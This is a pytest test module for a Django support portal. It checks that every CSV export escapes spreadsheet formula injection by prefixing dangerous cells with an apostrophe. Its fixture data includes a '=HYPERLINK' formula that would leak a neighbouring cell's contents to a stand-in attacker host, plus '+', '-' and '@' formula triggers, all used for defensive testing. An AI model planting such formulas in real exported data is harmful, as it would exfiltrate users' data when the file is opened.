"""Every export is safe to open in a spreadsheet: no cell runs as a formula."""

import csv
import io

import pytest
from django import forms
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from escalations import services as escalation_services
from escalations.models import Tier
from incidents.resources import CustomerResource
from portal.exports import FORMULA_STARTS, safe_cell
from tests.factories import (
    CustomerFactory,
    IncidentFactory,
    UserFactory,
    request_test_credit,
    request_test_escalation,
)

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_nothing_runs(text: str) -> None:
    dangerous = [c for c in cells(text) if c.startswith(FORMULA_STARTS)]
    assert dangerous == []
    assert any(c.startswith("'=HYPERLINK") for c in cells(text))


@pytest.fixture
def evil_customer(agent, frozen_now):
    UserFactory(username="l2-member", role="Senior agent")
    customer = CustomerFactory(name=EVIL)
    for _ in range(2):
        request_test_escalation(IncidentFactory(customer=customer), agent)
    return customer


def test_the_metrics_export_neutralises_formulas(
    agent_client, evil_customer, frozen_now
):
    response = agent_client.get(
        reverse("escalations:metrics_export"),
        {"start": "2026-11-18", "end": "2026-11-18"},
    )

    assert response.status_code == 200
    assert_nothing_runs(response.content.decode())


def test_the_credits_export_neutralises_formulas(
    client, agent, manager, evil_customer, frozen_now
):
    incident = evil_customer.incidents.first()
    credit = request_test_credit(incident, agent, reason="+1 for a good try")
    escalation_services.approve_credit(credit=credit, actor=manager)
    client.force_login(manager)

    response = client.get(
        reverse("escalations:credit_export"), {"month": "2026-11", "basis": "requested"}
    )

    assert_nothing_runs(response.content.decode())


def test_the_customer_export_neutralises_formulas_and_round_trips(evil_customer):
    exported = CustomerResource().export().csv

    assert_nothing_runs(exported)
    from tablib import Dataset

    result = CustomerResource().import_data(
        Dataset().load(exported, format="csv"), dry_run=True
    )
    assert not result.has_errors()
    assert all(row.import_type in ("skip", "update") for row in result.rows)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_that_would_run_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


def test_numbers_stay_numbers():
    assert safe_cell(-12) == -12


# Text a person can type into any free-text field that a spreadsheet would run.
FORMULAS = [EVIL, "+1", "-1", "@SUM(A1)"]


def _export_url_names(resolver=None, namespace="") -> set[str]:
    """Return the name of every URL of the portal, admin included, that exports."""
    names = set()
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            names |= _export_url_names(entry, inner)
        elif isinstance(entry, URLPattern) and (entry.name or "").endswith("export"):
            names.add(f"{namespace}{entry.name}")
    return names


def _admin_export(client, name):
    """Post the admin's export form as shown, every column ticked, as CSV."""
    form = client.get(reverse(name)).context["form"]
    csv_choice = next(v for v, label in form.fields["format"].choices if label == "csv")
    ticked = {
        field_name: "on"
        for field_name, field in form.fields.items()
        if isinstance(field, forms.BooleanField)
    }
    return client.post(reverse(name), {"format": csv_choice, "resource": 0, **ticked})


# How each export URL is asked for the month of ``frozen_now``.
EXPORT_REQUESTS = {
    "escalations:metrics_export": [
        lambda client, name: client.get(
            reverse(name), {"start": "2026-11-01", "end": "2026-11-30"}
        )
    ],
    "escalations:credit_export": [
        lambda client, name, basis=basis: client.get(
            reverse(name), {"month": "2026-11", "basis": basis}
        )
        for basis in ("requested", "applied")
    ],
    "admin:incidents_customer_export": [_admin_export],
}


def test_every_csv_export_url_neutralises_formulas_in_every_cell(
    client, agent, manager, admin_user, frozen_now
):
    UserFactory(username="l2-member", role="Senior agent")
    customer = CustomerFactory(
        name=EVIL, company="+1", contact_name="-1", contact_title="@SUM(A1)"
    )
    incidents = [IncidentFactory(customer=customer) for _ in range(2)]
    for incident in incidents:
        (escalation,) = request_test_escalation(incident, agent)
    Tier.objects.filter(pk=escalation.to_tier_id).update(name="@SUM(A1)")
    for reason in FORMULAS:
        credit = request_test_credit(incidents[0], agent, reason=reason)
        escalation_services.approve_credit(credit=credit, actor=manager)
        escalation_services.apply_credit(
            credit=credit, actor=admin_user, billing_reference="-1"
        )
    client.force_login(admin_user)

    exported = {}
    for name, requests in EXPORT_REQUESTS.items():
        for index, export in enumerate(requests):
            response = export(client, name)
            assert response.status_code == 200, (name, response.status_code)
            assert response["Content-Type"].startswith("text/csv"), name
            exported[f"{name} #{index}"] = cells(response.content.decode())

    assert set(EXPORT_REQUESTS) == _export_url_names()
    for name, found in exported.items():
        assert [c for c in found if c.startswith(FORMULA_STARTS)] == [], name
        assert f"'{EVIL}" in found, name
    assert {"'+1", "'-1", "'@SUM(A1)"} <= {c for f in exported.values() for c in f}
